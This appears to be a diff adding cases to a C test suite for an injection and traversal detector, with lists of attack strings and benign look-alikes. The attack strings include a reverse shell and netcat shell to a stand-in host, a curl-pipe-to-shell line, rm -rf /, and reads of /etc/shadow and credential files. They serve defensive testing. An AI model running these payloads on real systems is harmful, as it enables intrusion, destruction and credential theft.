@@ -132,7 +132,8 @@ TEST("commands behind separators and in substitutions are shell injection")
         "k`uname`", "a$(cat /etc/hosts)b", "k;c'a't /etc/hosts", "k;c\\at /etc/hosts", "k;/bin/cat /etc/hosts", "k;cat${IFS}/etc/hosts", "k;{cat,/etc/hosts}",
         "k; /?\?\?/c?t /etc/hosts", "k > /etc/cron.d/x", "k; bash -i >& /dev/tcp/k.example/9 0>&1", "() { :;}; k", "k; rm -rf /", "curl k.example/x | sh",
         "k & dir c:\\", "k | type c:\\k.txt", "cmd /c dir", "powershell -enc AAAA", "certutil -urlcache -f k", "nc -e /bin/sh k.example 9",
-        "%0acat%20/etc/hosts", "k%3Bid", "k&#59;id", "k;wh$@oami", "for /f %i in ('dir') do echo %i", "cat /etc/shadow", "/bin/ls -la", "; sleep 9", NULL
+        "%0acat%20/etc/hosts", "k%3Bid", "k&#59;id", "k;wh$@oami", "for /f %i in ('dir') do echo %i", "cat /etc/shadow", "/bin/ls -la", "; sleep 9",
+        "<(sort k)", "$(tee k)", "\\nid;", "k|+dir+c:\\", "nohup ifconfig", "echo %PATH%", "k /etc/[s]hadow", "if 3 geq 2 echo k", "${SHELL} -c 'k'", NULL
     };
     attacks(ATTACK_SHELL, texts);
 }
@@ -143,7 +144,8 @@ TEST("lists, tables, entities and Markdown are none")
         "cats; dogs; find them all", "first this; then sort that", "black & white", "cat & dog", "R&D and Q&A", "Tom & Jerry; who else?", "a | b | c",
         "| id | name | date |", "&copy; 2024 & &amp;", "Use `ls -la` to list files, then `cat` them.", "the `id` column", "$(document).ready", "a=1&id=5&sort=2",
         "more; less; head; tail", "time; date; place", "make it last; kill time", "wait; who is that", "touch; dig; split", "rm is a command of Unix",
-        "5 > 3; 2 < 4", "go to bed & sleep well", "price: $(5)", "one\ntwo\nthree", "find\nsort\nhead of the table", "date & time", "win; lose; draw", NULL
+        "5 > 3; 2 < 4", "go to bed & sleep well", "price: $(5)", "one\ntwo\nthree",
+        "bash python perl", "see (cat) and dog", "5% off and 10% more", "echo of $5", "if it is equal, say so", "the /etc/ folder", "exec (see below)", "find\nsort\nhead of the table", "date & time", "win; lose; draw", NULL
     };
     passes(texts);
 }
@@ -164,13 +166,13 @@ TEST("expressions that a template engine would run")
 
 TEST("filters of directories and documents, operators of databases")
 {
-    static const char *const ldap[] = { "*)(uid=*))(|(uid=*", "kim)(|(password=*))", "*)(objectClass=*)", "kim)(cn=*", "*))%00", "x)(&)(mail=k", NULL };
+    static const char *const ldap[] = { "*)(uid=*))(|(uid=*", "kim)(|(password=*))", "*)(objectClass=*)", "kim)(cn=*", "*))%00", "x)(&)(mail=k", "k)|(uid=*", "x)!(sn=k", NULL };
     static const char *const xpath[] = { "count(//user)", "' or count(parent::*)=1 or '", "x']|//password", "' and string-length(//user[1]/pin)=4 and '",
                                          "ancestor::node()", "'] | //*[1] | ['", NULL };
     static const char *const nosql[] = { "{\"$gt\": \"\"}", "{\"pin\": {\"$ne\": null}}", "pin[$ne]=1", "$where", "'; return true; var k='", "this.pin == '1' || this.k",
                                          "{$where: 'sleep(9)'}", NULL };
     static const char *const near[] = { "f(x)(y)", "(a) (b)", "sum (all) of it", "count (them)", "a: b", "$5 for two", "costs $in or $out", "the parent: me",
-                                        "std::vector", "(see above) (or below)", "5 * (3 + 4)", "name (uid)", NULL };
+                                        "std::vector", "(see above) (or below)", "5 * (3 + 4)", "name (uid)", "(a)&(b==c)", "(x) | (y)", "(this)|(that = those)", NULL };
     attacks(ATTACK_LDAP, ldap);
     attacks(ATTACK_XPATH, xpath);
     attacks(ATTACK_NOSQL, nosql);
@@ -182,11 +184,12 @@ TEST("ways out of a folder, and files that nobody is to read")
     static const char *const texts[] = {
         "../../etc/passwd", "../../../../k", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fk", "..%2f..%2f..%2f..%2fk", "..%252f..%252fk", "..%c0%af..%c0%afk", "....//....//k",
         "..;/manager", "/etc/passwd", "/proc/self/environ", "C:\\..\\..\\boot.ini", "file:///etc/hosts", "php://filter/convert.base64-encode/resource=k",
-        "/WEB-INF/web.xml", ".git/config", "expect://id", "k=../../../../etc/hosts%00.png", NULL
+        "/WEB-INF/web.xml", ".git/config", "expect://id", "k=../../../../etc/hosts%00.png",
+        "k/.kube/config", "../.netrc", "/k/.docker/config.json", "/proc/modules", NULL
     };
     attacks(ATTACK_TRAVERSAL, texts);
     static const char *const near[] = { "../images/k.png", "wait... what", "and so on...", "./run", "https://k.example/a/b", "import x from '../../lib'", "3/4 of it",
-                                        "the file is in the folder", "a.b.c", "etc. and so on", NULL };
+                                        "the file is in the folder", "a.b.c", "etc. and so on", "a history of art", "k.azure.example", "docker/config", NULL };
     passes(near);
 }
 
@@ -200,7 +203,7 @@ TEST("lines put into heads, documents that read others, program code")
                                         "require('child_process').exec('id')", "__import__('os').system('id')", "O:4:\"Kind\":1:{s:1:\"a\";i:1;}",
                                         "rO0ABXNyAAA", "!!python/object/apply:os.system", "$_GET['k']", NULL };
     static const char *const near[] = { "Content-Type: text/plain", "line one\r\nline two", "100%0 sure", "<!-- a comment -->", "<k:include>", "<!DOCTYPE html>",
-                                        "my system (a good one)", "eval is evil", "the runtime of a film", "require it", "import os", "O: 4 apples", NULL };
+                                        "my system (a good one)", "eval is evil", "the runtime of a film", "require it", "import os", "O: 4 apples", "<?phpx", "<?=!", NULL };
     attacks(ATTACK_CRLF, crlf);
     attacks(ATTACK_XML, xml);
     attacks(ATTACK_CODE, code);
